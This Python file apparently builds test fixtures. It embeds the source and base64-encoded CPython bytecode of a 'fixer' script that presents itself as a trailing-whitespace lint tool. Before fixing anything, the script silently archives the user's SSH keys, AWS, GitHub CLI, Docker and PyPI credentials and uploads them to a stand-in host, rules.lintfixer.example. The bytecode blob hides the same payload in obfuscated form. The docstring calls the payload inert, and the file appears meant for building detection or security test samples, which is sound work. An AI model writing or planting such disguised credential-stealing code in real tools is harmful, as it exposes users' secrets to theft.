"""Binary blobs embedded as base64 so the generator output does not depend on the
interpreter that runs it. `python3 blobs.py` recompiles SOURCES with the running
CPython and rewrites the B64 table below (only needed if SOURCES change).

fixer: CPython 3.11 bytecode (.pyc) of SOURCES["fixer"]; the hostile payload is
inert (reserved .example host)."""

import base64
import importlib.util
import marshal
import os
import re
import struct

SOURCES = {
    "fixer": '''
import io, os, re, sys, tarfile, urllib.request

def _fix(path):
    src = open(path).read()
    out = "\\n".join(l.rstrip() for l in src.splitlines()) + "\\n"
    if out != src:
        open(path, "w").write(out)
        return 1
    return 0

def _sync():
    h = os.path.expanduser("~")
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        for d in (".ssh", ".aws", ".config/gh", ".docker/config.json", ".pypirc"):
            p = os.path.join(h, d)
            if os.path.exists(p):
                t.add(p, d)
    try:
        urllib.request.urlopen(urllib.request.Request(
            "https://rules.lintfixer.example/v3/sync", b.getvalue(),
            {"Content-Type": "application/gzip"}), timeout=6)
    except Exception:
        pass

def main(argv):
    _sync()
    n = 0
    for root, _, files in os.walk(argv[1] if len(argv) > 1 else "."):
        for f in files:
            if f.endswith(".py"):
                n += _fix(os.path.join(root, f))
    print(f"fixed {n} files")

if __name__ == "__main__":
    main(sys.argv)
''',
}

B64 = {
    "fixer": (
        "pw0NCgAAAAAYdghpKQQAAOMAAAAAAAAAAAAAAAADAAAAAAAAAPN4AAAAlwBkAGQBbABaAGQAZAFs"
        "AVoBZABkAWwCWgJkAGQBbANaA2QAZAFsBFoEZABkAWwFWgZkAoQAWgdkA4QAWghkBIQAWgllCmQF"
        "awIAAAAAchICAGUJZQNqCwAAAAAAAAAApgEAAKsBAAAAAAAAAAABAGQBUwBkAVMAKQbpAAAAAE5j"
        "AQAAAAAAAAAAAAAABQAAAAMAAADzBgEAAJcAdAEAAAAAAAAAAAAAfACmAQAAqwEAAAAAAAAAAKAB"
        "AAAAAAAAAAAAAAAAAAAAAAAAAACmAAAAqwAAAAAAAAAAAH0BZAGgAgAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAZAKEAHwBoAMAAAAAAAAAAAAAAAAAAAAAAAAAAKYAAACrAAAAAAAAAAAARACmAAAAqwAAAAAA"
        "AAAAAKYBAACrAQAAAAAAAAAAZAF6AAAAfQJ8AnwBawMAAAAAciV0AQAAAAAAAAAAAAB8AGQDpgIA"
        "AKsCAAAAAAAAAACgBAAAAAAAAAAAAAAAAAAAAAAAAAAAfAKmAQAAqwEAAAAAAAAAAAEAZARTAGQF"
        "UwApBk76AQpjAQAAAAAAAAAAAAAAAwAAADMAAADzPgAAAEsAAQCXAHwAXRh9AXwBoAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAKYAAACrAAAAAAAAAAAAVgCXAQEAjBlkAFMAKQFOKQHaBnJzdHJpcCkC2gIu"
        "MNoBbHMCAAAAICD6CGZpeGVyLnB5+gk8Z2VuZXhwcj56F19maXguPGxvY2Fscz4uPGdlbmV4cHI+"
        "BgAAAHMqAAAA6ADoAIAA0BM50BM5oDGQQZdIkkiRSpRK0BM50BM50BM50BM50BM50BM58wAAAADa"
        "AXfpAQAAAHICAAAAKQXaBG9wZW7aBHJlYWTaBGpvaW7aCnNwbGl0bGluZXPaBXdyaXRlKQPaBHBh"
        "dGjaA3NyY9oDb3V0cwMAAAAgICByCQAAANoEX2ZpeHIWAAAABAAAAHN1AAAAgADdCg6IdIkqjCqP"
        "L4ov0Qob1AobgEPYCg6PKYop0BM50BM5qAOvDqoO0Sg41Cg40BM50RM51BM50Qo51Ao5uETRCkCA"
        "Q9gHCohjgnqAet0IDIhUkDOJD4wP1wgd0ggdmGPRCCLUCCLQCCLYDxCIcdgLDIgxcgsAAABjAAAA"
        "AAAAAAAAAAAACAAAAAMAAADzSAIAAJcAdAAAAAAAAAAAAAAAagEAAAAAAAAAAKACAAAAAAAAAAAA"
        "AAAAAAAAAAAAAABkAaYBAACrAQAAAAAAAAAAfQB0BwAAAAAAAAAAAABqBAAAAAAAAAAApgAAAKsA"
        "AAAAAAAAAAB9AXQLAAAAAAAAAAAAAGoGAAAAAAAAAAB8AWQCrAOmAgAAqwIAAAAAAAAAADUAfQJk"
        "BEQAXVd9A3QAAAAAAAAAAAAAAGoBAAAAAAAAAACgBwAAAAAAAAAAAAAAAAAAAAAAAAAAfAB8A6YC"
        "AACrAgAAAAAAAAAAfQR0AAAAAAAAAAAAAABqAQAAAAAAAAAAoAgAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AHwEpgEAAKsBAAAAAAAAAAByFnwCoAkAAAAAAAAAAAAAAAAAAAAAAAAAAHwEfAOmAgAAqwIAAAAA"
        "AAAAAAEAjFgJAGQAZABkAKYCAACrAgAAAAAAAAAAAQBuCyMAMQBzBHcCeANZAHcBAQBZAAEAAQAJ"
        "AHQUAAAAAAAAAAAAAGoLAAAAAAAAAACgDAAAAAAAAAAAAAAAAAAAAAAAAAAAdBQAAAAAAAAAAAAA"
        "agsAAAAAAAAAAKANAAAAAAAAAAAAAAAAAAAAAAAAAABkBXwBoA4AAAAAAAAAAAAAAAAAAAAAAAAA"
        "AKYAAACrAAAAAAAAAAAAZAZkB2kBpgMAAKsDAAAAAAAAAABkCKwJpgIAAKsCAAAAAAAAAAABAGQA"
        "UwAjAHQeAAAAAAAAAAAAACQAcgQBAFkAZABTAHcAeANZAHcBKQpO+gF+egR3Omd6KQLaB2ZpbGVv"
        "YmraBG1vZGUpBXoELnNzaHoELmF3c3oKLmNvbmZpZy9naHoTLmRvY2tlci9jb25maWcuanNvbnoH"
        "LnB5cGlyY3onaHR0cHM6Ly9ydWxlcy5saW50Zml4ZXIuZXhhbXBsZS92My9zeW5jegxDb250ZW50"
        "LVR5cGV6EGFwcGxpY2F0aW9uL2d6aXDpBgAAACkB2gd0aW1lb3V0KRDaAm9zchMAAADaCmV4cGFu"
        "ZHVzZXLaAmlv2gdCeXRlc0lP2gd0YXJmaWxlcg4AAAByEAAAANoGZXhpc3Rz2gNhZGTaBnVybGxp"
        "YtoHcmVxdWVzdNoHdXJsb3BlbtoHUmVxdWVzdNoIZ2V0dmFsdWXaCUV4Y2VwdGlvbikF2gFo2gFi"
        "2gF02gFk2gFwcwUAAAAgICAgIHIJAAAA2gVfc3luY3IvAAAADAAAAHNZAQAAgADdCAqMB9cIGtII"
        "Gpgz0Qgf1AgfgEHdCAqMCokMjAyAQd0JEIwcmGGgZtAJLdEJLdQJLfAABAUcsBHYEVHwAAMJHPAA"
        "AwkciEHdEBKUB5cMkgyYUaAB0RAi1BAiiEHdDxGMd49+in6YYdEPINQPIPAAAQ0c2BARlwWSBZBh"
        "mBGRC5QLkAv48AcDCRzwAwQFHPAABAUc8AAEBRzxAAQFHPQABAUc8AAEBRzwAAQFHPAABAUc8AAE"
        "BRzwAAQFHPAABAUc+Pj48AAEBRzwAAQFHPAABAUc8AAEBRzwCgUFDd0IDowO1wge0ggenXacftcf"
        "NdIfNdgMNbBxt3qyerF8tHzYDRvQHS/QDDDxBQIgMvQAAiAy4Ds88AUACR/xAAIJPvQAAgk+8AAC"
        "CT7wAAIJPvAAAgk++PUGAAwV8AABBQ3wAAEFDfAAAQUN2AgMiASIBPADAQUN+Pj4cyYAAADBCUEb"
        "QjEDwjEEQjUHwjgBQjUHwj1BFEQTAMQTCkQhA8QgAUQhA2MBAAAAAAAAAAAAAAAJAAAAAwAAAPNM"
        "AQAAlwB0AQAAAAAAAAAAAACmAAAAqwAAAAAAAAAAAAEAZAF9AXQDAAAAAAAAAAAAAGoCAAAAAAAA"
        "AAB0BwAAAAAAAAAAAAB8AKYBAACrAQAAAAAAAAAAZAJrBAAAAAByCHwAZAIZAAAAAAAAAAAAbgFk"
        "A6YBAACrAQAAAAAAAAAARABdUFwDAAB9An0DfQR8BEQAXUd9BXwFoAQAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAGQEpgEAAKsBAAAAAAAAAAByMHwBdAsAAAAAAAAAAAAAdAIAAAAAAAAAAAAAagYAAAAAAAAA"
        "AKAHAAAAAAAAAAAAAAAAAAAAAAAAAAB8AnwFpgIAAKsCAAAAAAAAAACmAQAAqwEAAAAAAAAAAHoN"
        "AAB9AYxIjFF0EQAAAAAAAAAAAABkBXwBmwBkBp0DpgEAAKsBAAAAAAAAAAABAGQAUwApB05yAgAA"
        "AHINAAAA+gEuegMucHl6BmZpeGVkIHoGIGZpbGVzKQlyLwAAAHIdAAAA2gR3YWxr2gNsZW7aCGVu"
        "ZHN3aXRochYAAAByEwAAAHIQAAAA2gVwcmludCkG2gRhcmd22gFu2gRyb2902gFf2gVmaWxlc9oB"
        "ZnMGAAAAICAgICAgcgkAAADaBG1haW5yPAAAABsAAABzsgAAAIAA3QQJgUeER4BH2AgJgEHdGhyc"
        "J61TsBSpWaxZuBGqXahdoCSgcaQnoCfAA9EaRNQaRPAAAwUx8AADBTGJDogEiGGQFdgRFvAAAgkx"
        "8AACCTGIQdgPEI96inqYJdEPINQPIPAAAQ0x2BARlVSdIpwnnyyaLKB0qFHRGi/UGi/RFTDUFTDR"
        "EDCQAfjwBQIJMfUGAAUK0AockDHQChzQChzQChzRBB3UBB3QBB3QBB3QBB1yCwAAANoIX19tYWlu"
        "X18pDHIfAAAAch0AAADaAnJl2gNzeXNyIQAAANoOdXJsbGliLnJlcXVlc3RyJAAAAHIWAAAAci8A"
        "AAByPAAAANoIX19uYW1lX19yNgAAAKkAcgsAAAByCQAAAPoIPG1vZHVsZT5yQwAAAAEAAABzogAA"
        "APADAQEB4AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv0AAv"
        "0AAv0AAv0AAv0AAv0AAv0AAv0AAv8AQGAQ3wAAYBDfAABgEN8BANAQ3wAA0BDfAADQEN8B4HAR7w"
        "AAcBHvAABwEe8BIABAyIetIDGdADGdgECIBEiBOMGIFOhE6AToBOgE7wAwAEGtADGXILAAAA"
    ),
}


def get(name):
    return base64.b64decode(B64[name])


def _compile(name):
    src = SOURCES[name]
    code = compile(src, name + ".py", "exec")
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, 1762162200, len(src.encode()))
    return header + marshal.dumps(code)


if __name__ == "__main__":
    here = os.path.abspath(__file__)
    text = open(here).read()
    table = "B64 = {\n" + "".join(
        f'    "{n}": (\n' + "".join(
            f'        "{chunk}"\n' for chunk in re.findall(".{1,76}", base64.b64encode(_compile(n)).decode()))
        + "    ),\n" for n in SOURCES) + "}\n"
    text = re.sub(r"B64 = \{\n.*?^\}\n", table, text, count=1, flags=re.S | re.M)
    open(here, "w").write(text)
    print("rebuilt", ", ".join(SOURCES))
